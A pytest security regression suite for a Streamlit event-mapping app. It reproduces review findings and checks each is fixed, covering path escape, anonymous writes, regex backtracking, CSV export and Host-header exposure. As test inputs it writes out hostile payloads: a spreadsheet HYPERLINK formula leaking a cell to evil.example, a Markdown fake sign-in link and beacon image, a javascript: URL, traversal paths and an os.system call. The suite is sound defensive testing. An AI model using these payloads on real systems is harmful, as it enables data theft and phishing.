"""Each hole a security review found, reproduced against the real app or CLI, and shown closed.

The classes: a path that escapes seeds/, writes by anonymous visitors, oversize appends, text that made
the ingest rules backtrack, long Chinese/Korean runs, an unbounded search box, Markdown in echoed link
values, spreadsheet formulas in the CSV download, and a server open on every interface to any Host.
Browser tests run a real Streamlit server and Debian's Chromium (harness in tests/test_browser.py);
the others drive the real pages with Streamlit's AppTest or run `python -m geo` as a user would.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import json
import os
import re
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import expect
from streamlit.testing.v1 import AppTest

from geo.events.dataset import MAX_FILE_BYTES, read_json
from geo.ingest.candidates import MAX_ARTICLE_CHARS
from geo.reference.gazetteer import load_gazetteer
from geo.report.markup import WORD_JOINER
from geo.store import MAX_APPEND_FEATURES, digest, encode
from geo.store.changelog import read_changes
from geo.store.editors import add_editor
from tests.browser import LOAD_MS, RERUN_MS, App, free_port, is_loopback, open_review_page, serve, stop, wait_until_idle
from tests.conftest import EVENTS_PATH, ROOT

REVIEW = str(ROOT / "pages" / "review.py")
SEED_TEXT = (ROOT / "seeds" / "000_c849781cc78fe4c5.txt").read_text(encoding="utf-8")
# A second report of a known event (the Shanghai disappearance) and one new event, for the append flow.
SECOND_ARTICLE = ("Twenty North Korean garment workers disappeared from a factory in Shanghai in February 2022, "
                  "a source said.\nNorth Korean workers staged a strike at a seafood plant in Hunchun on 10 January "
                  "2023.\n")
EDITOR, PASSWORD = "alice", "a long test passphrase"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3, "Open the source")'


def geo(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "geo", *args], capture_output=True, text=True, cwd=ROOT,
                          timeout=300, env=env)


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the real dataset, one editor, and a seeds folder of its own (for AppTest runs)."""
    data = tmp_path / "events.geojson"
    data.write_bytes(EVENTS_PATH.read_bytes())
    (tmp_path / "seeds").mkdir()
    monkeypatch.setenv("BORDER_DATA", str(data))
    monkeypatch.setenv("BORDER_EDITORS", str(tmp_path / "editors.toml"))
    monkeypatch.setenv("BORDER_SEEDS", str(tmp_path / "seeds"))
    add_editor(EDITOR, PASSWORD)
    return data


def review_page(signed_in: bool) -> AppTest:
    at = AppTest.from_file(REVIEW, default_timeout=60)
    at.run()
    if signed_in:
        at.text_input(key="editor_name").input(EDITOR)
        at.text_input(key="editor_password").input(PASSWORD)
        at.button[0].click().run()
        assert at.session_state["signed_in_editor"].name == EDITOR
    return at


def find(at: AppTest, text: str, url: str = "") -> float:
    """Fill the article form and press Find candidates; returns how long that rerun took."""
    at.text_area(key="article").input(text)
    at.date_input(key="published").set_value(dt.date(2023, 2, 23))
    at.text_input(key="publisher").input("Example Daily")
    at.text_input(key="url").input(url)
    start = time.perf_counter()
    at.button(key="find").click().run()
    return time.perf_counter() - start


# --- 1. Path escape -----------------------------------------------------------------------------

@pytest.mark.parametrize("url", ["seeds/../pages/x.py", "../pages/x.py", "file:///tmp/x.py", "javascript:alert(1)"])
def test_a_url_field_that_is_not_http_is_refused_and_no_file_is_written(workspace, url):
    before = sorted(p.name for p in (ROOT / "pages").iterdir())
    at = review_page(signed_in=True)
    find(at, "import os\nos.system('id')  # workers were detained in Hunchun recently.", url)
    assert "must start with http:// or https://" in at.error[0].value
    assert "review" not in at.session_state
    assert sorted(p.name for p in (ROOT / "pages").iterdir()) == before
    assert list((workspace.parent / "seeds").iterdir()) == []


def test_an_article_with_no_url_is_kept_only_as_its_hash_named_seed_after_the_append(workspace):
    text = "import os  # Workers were detained in Hunchun recently.\n"
    at = review_page(signed_in=True)
    find(at, text)
    seeds = workspace.parent / "seeds"
    at.checkbox(key="cand_0_accept").check()
    at.text_area(key="cand_0_summary").input("Workers were detained in Hunchun.")
    at.run()
    assert list(seeds.iterdir()) == [], "nothing is written before the append"
    at.button(key="append").click().run()
    assert at.success, [e.value for e in at.error]
    [seed] = seeds.iterdir()
    assert seed.suffix == ".txt" and len(seed.stem) == 16 and seed.read_text(encoding="utf-8") == text
    [change] = read_changes(workspace)
    assert change.refs == (f"seeds/{seed.name}",)


# --- 2. Anonymous writes (the browser test below covers it end to end) ---------------------------

def test_an_anonymous_visitor_gets_candidates_but_no_append_and_no_seed(workspace):
    at = review_page(signed_in=False)
    find(at, SEED_TEXT)
    assert at.subheader[0].value.endswith("candidates")
    assert not [b for b in at.button if b.key == "append"]
    assert list((workspace.parent / "seeds").iterdir()) == [] and read_changes(workspace) == []
    assert workspace.read_bytes() == EVENTS_PATH.read_bytes()


# --- 3. Oversize appends -----------------------------------------------------------------------

def test_an_article_that_names_every_place_with_every_keyword_cannot_be_appended_whole(workspace):
    towns = [p.name for p in load_gazetteer().places.values() if p.kind == "town" and p.lon is not None]
    article = " ".join(f"Workers were detained in {town} recently." for town in towns[:MAX_APPEND_FEATURES + 50])
    at = review_page(signed_in=True)
    find(at, article)
    # The suggested candidates start ticked (every sentence here reports a dated detention): when they pass the
    # bound, the page says so at once.
    ticked_first = sum(bool(row["accept"]) for row in at.session_state["review"]["rows"])
    assert any("one append takes at most" in w.value for w in at.warning) == (ticked_first > MAX_APPEND_FEATURES)
    for first in at.selectbox(key="cand_page").options:  # tick every candidate, twenty cards at a time
        at.selectbox(key="cand_page").set_value(first).run()
        for tick in at.checkbox:
            tick.check()
        at.run()
    ticked = sum(bool(row["accept"]) for row in at.session_state["review"]["rows"])
    assert ticked == len(at.session_state["review"]["rows"]) > MAX_APPEND_FEATURES
    assert any(f"{ticked:,} candidates are ticked; one append takes at most {MAX_APPEND_FEATURES}" in w.value
               for w in at.warning)
    assert at.button(key="append").disabled
    assert workspace.read_bytes() == EVENTS_PATH.read_bytes()


def test_an_append_that_would_pass_the_200_mb_limit_is_refused_by_the_cli_and_nothing_changes(tmp_path):
    collection = read_json(EVENTS_PATH)
    big = copy.deepcopy(collection["features"][6])
    big["properties"].update(id="pad-000000", summary="s" * 5000, evidence="e" * 2000, location_note="l" * 2000,
                             date_note="d" * 2000)
    size, per = len(encode(collection)), None
    collection["features"].append(big)
    per = len(encode(collection)) - size
    collection["features"].pop()
    count = (MAX_FILE_BYTES - size) // per  # as many as fit under the limit
    collection["features"] += [{**big, "properties": {**big["properties"], "id": f"pad-{n:06d}"}}
                               for n in range(count)]
    data = tmp_path / "events.geojson"
    data.write_bytes(encode(collection))
    assert MAX_FILE_BYTES - per < data.stat().st_size <= MAX_FILE_BYTES
    one = tmp_path / "one.geojson"
    one.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {**big, "properties": {**big["properties"], "id": "one-too-many"}}]}), encoding="utf-8")
    before = digest(data)
    result = geo("add", "--data", str(data), str(one))
    assert result.returncode == 1 and "over the 200 MB limit; nothing was written" in result.stdout
    assert "Traceback" not in result.stderr
    assert digest(data) == before and not list(tmp_path.glob("events.geojson.bak.*"))


# --- 4 and 5. Backtracking text, long CJK runs ----------------------------------------------------

@pytest.mark.parametrize("text", [
    "shut " * 40_000, "border " * 28_000, "workers " * 25_000, "resumed train " * 14_000, "Hunchun " * 25_000,
    ("丹东" * 300 + "신의주" * 300) * 100, "图们" * 1000,
], ids=["shut", "border", "workers", "resumed-train", "capitalised-place", "cjk-200k", "cjk-2000"])
def test_text_that_used_to_backtrack_or_explode_is_read_in_under_three_seconds(workspace, text):
    # Backtracking took minutes; the whole page run (AppTest) takes 1-2.3 s on the 2-core CI machine: 3 s is the bound
    assert len(text) <= MAX_ARTICLE_CHARS
    at = review_page(signed_in=False)
    took = find(at, text)
    assert not at.exception and not at.error, [e.value for e in at.error]
    assert took < 3.0, f"Find candidates took {took:.1f} s on {len(text):,} characters"


def test_an_article_over_the_limit_is_refused_with_a_clear_message(workspace):
    at = review_page(signed_in=False)
    assert at.text_area(key="article").max_chars == MAX_ARTICLE_CHARS  # the browser cannot paste more
    # An uploaded file is text too, and goes through the same limit in the ingest itself:
    result = subprocess.run([sys.executable, "-c", (
        "import datetime, sys; from geo.ingest.candidates import candidates_within, ArticleTooLong\n"
        "try:\n    candidates_within('x ' * 150_001, datetime.date(2023, 2, 23), 'p', 't', 'https://e.org')\n"
        "except ArticleTooLong as e:\n    print(e)\n")], capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert f"{MAX_ARTICLE_CHARS:,}" in result.stdout, result.stdout + result.stderr


# --- The same, in a real browser against a real server -------------------------------------------

@pytest.fixture(scope="module")
def secured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[App, Path]]:
    """A server on a copy of the real dataset whose first title is a spreadsheet formula, with one editor
    and a seeds folder of its own."""
    folder = tmp_path_factory.mktemp("secured")
    collection = read_json(EVENTS_PATH)
    collection["features"][0]["properties"]["title"] = FORMULA
    data = folder / "events.geojson"
    data.write_text(json.dumps(collection, ensure_ascii=False), encoding="utf-8")
    (folder / "seeds").mkdir()
    add_editor(EDITOR, PASSWORD, folder / "editors.toml")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("BORDER_EDITORS", str(folder / "editors.toml"))
        patch.setenv("BORDER_SEEDS", str(folder / "seeds"))
        with serve(folder, data) as app:
            patch.undo()
            yield app, data


def test_link_values_are_shown_as_text_never_as_a_link_or_an_image(secured, open_session):
    app, _ = secured
    session = open_session(is_loopback)
    page = session.page
    fake = "[Your session expired - sign in again](http://evil.example/login)"
    beacon = "![](http://evil.example/beacon.gif)"
    with app.log_on_failure():
        page.goto(f"{app.url}?event={quote(fake)}&types={quote(beacon)}&v={quote(':red[x]')}")
        alerts = page.locator("[data-testid='stAlert']")
        expect(alerts.filter(has_text="is not in this dataset")).to_have_count(1, timeout=LOAD_MS)
        wait_until_idle(page)
        shown = " ".join(alerts.all_inner_texts()).replace(WORD_JOINER, "")  # joiners are invisible
        assert fake in shown and beacon in shown and ":red[x]" in shown
        assert alerts.locator("a").count() == 0 and alerts.locator("img").count() == 0
    assert not [url for url in session.blocked if "evil.example" in url], "the beacon was requested"
    session.assert_no_outside_request_and_no_js_error()


def test_the_search_box_holds_at_most_200_characters_and_so_does_the_link(secured, open_session):
    app, _ = secured
    session = open_session(is_loopback)
    page = session.page
    with app.log_on_failure():
        page.goto(f"{app.url}?q={'x' * 100_000}")
        search = page.get_by_label("Search text")
        expect(search).to_have_value("x" * 200, timeout=LOAD_MS)
        wait_until_idle(page)
        search.fill("y" * 5000)
        search.press("Enter")
        wait_until_idle(page)
        assert len(search.input_value()) <= 200
        assert len(page.url) < 1000, f"the address bar holds {len(page.url):,} characters"
    session.assert_no_outside_request_and_no_js_error()


def test_the_csv_download_writes_a_formula_title_as_text(secured, open_session, tmp_path):
    app, _ = secured
    session = open_session(is_loopback)
    page = session.page
    with app.log_on_failure():
        page.goto(app.url)
        button = page.get_by_role("button", name="Download CSV (filtered)")
        expect(button).to_be_visible(timeout=LOAD_MS)
        wait_until_idle(page)
        with page.expect_download(timeout=RERUN_MS) as download:
            button.click()
        saved = tmp_path / "events.csv"
        download.value.save_as(saved)
    text = saved.read_text(encoding="utf-8")
    assert f"'{FORMULA}".replace('"', '""') in text
    assert f",{FORMULA.replace(chr(34), chr(34) * 2)[:10]}" not in text and f',"{FORMULA[:10]}' not in text
    session.assert_no_outside_request_and_no_js_error()


def find_candidates_as_a_visitor(page, url: str) -> None:
    """Open the review page, paste SECOND_ARTICLE, find its candidates, and wait until the page says a visitor
    must sign in to append them."""
    open_review_page(page, url)
    fill_review_form(page, SECOND_ARTICLE)
    page.get_by_role("button", name="Find candidates").click()
    expect(page.get_by_text("Sign in as an editor (above) to append")).to_be_visible(timeout=RERUN_MS)


def fill_review_form(page, text: str) -> None:
    page.get_by_label("…or paste the article").fill(text)
    for segment, value in (("year", "2023"), ("month", "02"), ("day", "23")):  # react-aria date segments
        field = page.get_by_role("spinbutton", name=f"{segment}, Published")
        field.click()
        field.press_sequentially(value)
    page.get_by_label("Publisher").fill("The Asia Business Daily")
    page.get_by_label("Publisher").press("Enter")
    wait_until_idle(page)


def expected_append(data: Path, suggested_only: bool = False) -> tuple[int, int, set[str]]:
    """What the review page should offer for the founding article against `data` (which already holds its events):
    how many located candidates (only the suggested ones, which start ticked, with `suggested_only`) are new events,
    how many are sources of known events, and those known events.
    From geo.ingest.candidates and geo.ingest.matching run directly on the file, as the page runs them."""
    from geo.ingest.candidates import candidates_from_text
    from geo.ingest.matching import mark_matches
    from geo.store.seeds import seed_ref

    found = candidates_from_text(SECOND_ARTICLE, dt.date(2023, 2, 23), "The Asia Business Daily",
                                 SECOND_ARTICLE.strip()[:120], seed_ref(SECOND_ARTICLE))
    mark_matches(found, read_json(data)["features"])
    ticked = [f["properties"] for f in found["features"]  # the located ones, which the test ticks
              if f["geometry"] and (f["properties"].get("suggested") or not suggested_only)]
    as_sources = sum(bool(p.get("matches")) for p in ticked)
    return len(ticked) - as_sources, as_sources, {p["matches"] for p in ticked if p.get("matches")}


def accept_located(page, located: int) -> None:
    """Tick the first `located` cards (the page shows the located candidates first) by clicking the label beside each
    tick (the checkbox itself is hidden), and write the summary each new event's card asks for."""
    for number in range(located):
        card = page.locator(f".st-key-cand_card_{number}")
        if not card.get_by_role("checkbox").is_checked():  # a suggested candidate starts ticked
            card.get_by_text(f"Accept candidate {number + 1}", exact=True).click()
        expect(card.get_by_role("checkbox")).to_be_checked()
        wait_until_idle(page)
        summary = card.get_by_role("textbox", name="Summary, in your own words")
        if summary.count():  # none on a card offered as another source of a known event
            summary.fill(f"Written by the editor for candidate {number + 1}.")
            summary.press("Control+Enter")  # a text area's value is sent on Ctrl+Enter or when it loses focus
            wait_until_idle(page)


def test_an_anonymous_browser_cannot_append_and_a_signed_in_editor_can_and_revert_restores(secured, open_session):
    app, data = secured
    seeds = data.parent / "seeds"
    original = data.read_bytes()
    new, as_sources, known = expected_append(data)
    assert new and as_sources, "the article should give both a new event and a source of a known one"
    session = open_session(is_loopback)
    page = session.page
    with app.log_on_failure():
        find_candidates_as_a_visitor(page, app.url)
        wait_until_idle(page)
        assert page.get_by_role("button", name="Append").count() == 0
        assert list(seeds.iterdir()) == [] and data.read_bytes() == original

        page.get_by_role("textbox", name="Editor name").fill(EDITOR)
        page.get_by_role("textbox", name="Password").fill("not the password")
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_text("Wrong editor name or password")).to_be_visible(timeout=RERUN_MS)
        page.get_by_role("textbox", name="Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_text(f"Signed in as {EDITOR}")).to_be_visible(timeout=RERUN_MS)
        wait_until_idle(page)
        at_first, sources_at_first, _ = expected_append(data, suggested_only=True)  # the suggested start ticked
        expect(page.get_by_role("button", name=re.compile(
            rf"^Append {at_first} accepted events" + (rf" and {sources_at_first} sources of known events"
                                                      if sources_at_first else " to the dataset")))).to_be_visible()
        accept_located(page, new + as_sources)
        append = page.get_by_role("button", name=re.compile(
            rf"^Append {new} accepted events and {as_sources} sources of known events"))
        expect(append).to_be_visible(timeout=RERUN_MS)
        wait_until_idle(page)
        append.click()
        done = re.compile(rf"Appended {new} events and attached sources to {len(known)} known events as change 0001 "
                          rf"by {EDITOR}")
        expect(page.get_by_text(done)).to_be_visible(timeout=RERUN_MS)
    assert len(list(seeds.iterdir())) == 1
    history = geo("history", "--data", str(data), "--json")
    [entry] = [json.loads(line) for line in history.stdout.splitlines()]
    assert entry["editor"] == EDITOR and len(entry["added"]) == new
    assert {attached["event"] for attached in entry["attached"]} == known
    assert geo("revert", entry["id"], "--data", str(data)).returncode == 0
    restored, previous = read_json(data)["features"], json.loads(original)["features"]
    gone = object()
    changed = {was["properties"]["id"]: sorted(key for key in {*now["properties"], *was["properties"]}
                                               if now["properties"].get(key, gone) != was["properties"].get(key, gone))
               for now, was in zip(restored, previous, strict=False) if now != was}
    # Exactly the previous events. (Known product bug: geo/store.py _detach drops an event's explicit
    # `"figures": []` when it takes an attached source back off, so such an event comes back changed.)
    session.assert_no_outside_request_and_no_js_error()  # checked first, so a failure below does not hide it
    assert restored == previous, f"the revert did not restore these events exactly (fields): {changed}"


# --- 8. Exposure: listen address and Host header -------------------------------------------------

def listening_addresses(port: int) -> set[str]:
    """Local addresses in LISTEN state on `port`, from /proc/net/tcp and tcp6 (no traffic sent)."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.rsplit(":", 1)
            if state == "0A" and int(hex_port, 16) == port:
                found.add(address)
    return found


def upgrade_status(port: int, host: str) -> str:
    """The status line Streamlit answers a websocket upgrade with, for this Host header."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        key = base64.b64encode(os.urandom(16)).decode()
        connection.sendall((f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
                            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
                            f"Sec-WebSocket-Protocol: streamlit\r\nOrigin: http://{host}\r\n\r\n").encode())
        return connection.recv(200).split(b"\r\n")[0].decode()


def test_the_server_listens_on_loopback_only_and_refuses_a_foreign_host_header(tmp_path):
    port = free_port()
    command = [sys.executable, "-m", "streamlit", "run", "dashboard.py", "--server.port", str(port),
               "--server.fileWatcherType", "none"]  # no --server.address: the project's config decides
    with (tmp_path / "err.log").open("wb") as err:
        server = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=err,
                                  stdin=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while not listening_addresses(port):
            assert server.poll() is None and time.monotonic() < deadline, (tmp_path / "err.log").read_text()
            time.sleep(0.25)
        assert listening_addresses(port) == {"0100007F"}, "listens beyond 127.0.0.1"
        assert upgrade_status(port, f"127.0.0.1:{port}").endswith("101 Switching Protocols")
        assert upgrade_status(port, "evil.example").endswith("403 Forbidden")  # DNS rebinding refused
    finally:
        stop(server)
